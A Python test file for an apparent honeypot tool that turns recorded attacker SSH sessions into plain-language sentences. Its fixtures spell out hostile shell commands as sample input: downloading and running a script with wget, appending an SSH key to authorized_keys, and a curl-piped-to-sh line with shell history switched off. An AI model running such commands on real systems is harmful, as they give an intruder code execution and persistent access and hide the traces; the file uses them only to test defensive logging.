# SPDX-License-Identifier: MIT
"""A session in one sentence: what was done, in the order of its beginning, bounded whatever was typed."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from decnet_models.attackers.behaviour import Trait
from decnet_models.attackers.profile import Session
from decnet_models.attackers.stories import deeds, sentence


def session(**changes: object) -> Session:
    values = {
        "attacker": "192.0.2.1",
        "session": "s",
        "service": "ssh",
        "decky": "web-01",
        "username": "root",
        "terminal": None,
        "first_seen": 1,
        "last_seen": 2,
        "opened_at": 1,
        "closed_at": 2,
        "duration_ms": 61000,
        "commands": 5,
        "recording": None,
        **changes,
    }
    return Session(**values)  # type: ignore[arg-type]  # as given


def test_an_intrusion_is_told_in_the_order_of_its_deeds() -> None:
    lines = [
        "uname -a; id",
        "cd /tmp && wget http://198.51.100.1/x.sh",
        "sudo chmod +x x.sh",
        "./x.sh &",
        "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
    ]
    assert sentence(session(), lines, Trait("person", "")) == (
        "A person was on web-01 over ssh as root for 61 s, entered 5 commands: looked around (uname, id); "
        "fetched files (wget); made files executable (chmod); ran a program or script (x.sh); left an SSH key."
    )


def test_a_session_without_commands_is_told_too() -> None:
    quiet = session(commands=0, username=None, decky=None, duration_ms=None)
    assert sentence(quiet, [], None) == "Somebody was over ssh and entered nothing."
    assert sentence(session(commands=1, duration_ms=900_000), ["xyzzy"], None) == (
        "Somebody was on web-01 over ssh as root for 15 min, entered 1 command."
    )


def test_words_before_the_command_do_not_hide_it() -> None:
    assert deeds(["HISTFILE=/dev/null sudo nohup /usr/bin/curl -O x | sh"]) == {
        "fetched files": ["curl"],
        "ran a program or script": ["sh"],
    }


@given(st.lists(st.text(max_size=200), max_size=20))
def test_any_lines_make_a_sentence_of_bounded_length(lines: list[str]) -> None:
    assert len(sentence(session(), lines, None)) < 6000
